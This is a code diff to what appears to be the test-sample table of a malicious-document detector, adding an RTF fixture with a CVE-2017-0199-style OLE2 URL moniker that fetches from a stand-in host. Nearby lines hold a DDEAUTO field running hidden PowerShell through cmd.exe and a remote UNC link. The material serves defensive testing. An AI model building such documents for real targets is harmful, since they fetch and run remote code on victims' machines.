@@ -308,6 +308,8 @@ func linkSamples2() []Sample {
 			Data: CFB(Stream("Workbook", Workbook(false, Sheet{Name: "Sheet1"})), Storage("MBD0001A2B3", Stream("\x01Ole", OLEStream(`\\203.0.113.9\pub\data.xlsx`, false, false))))},
 		{Name: "dde-escaped.rtf", Want: verdict.Malicious, Why: `DDEAUTO field starting cmd, keyword and program written as \'hh`,
 			Data: rtfDoc(`{\field{\*\fldinst ` + rtfEscape("DDEAUTO") + ` c:\\\\windows\\\\system32\\\\` + rtfEscape("cmd.exe") + ` "/k powershell -w hidden -c calc"}{\fldrslt update}}`)},
+		{Name: "ole2-moniker.rtf", Want: verdict.Malicious, Why: "RTF object whose OLE2 storage is a link with a URL moniker (CVE-2017-0199 style), no objupdate",
+			Data: rtfDoc(`{\object\objautlink{\*\objclass Word.Document.8}{\*\objdata ` + fmt.Sprintf("%x", ole1Header("Word.Document.8", "", false, CFB(Stream("\x01Ole", OLEStream("http://203.0.113.9/doc.rtf", true, true))))) + `}}`)},
 		{Name: "clean-ole-local-link.doc", Want: verdict.Clean, Why: "object linked (manual update) to a local workbook",
 			Data: WordDocWithLink(OLEStream(`C:\Reports\figures.xlsx`, false, false))},
 	}
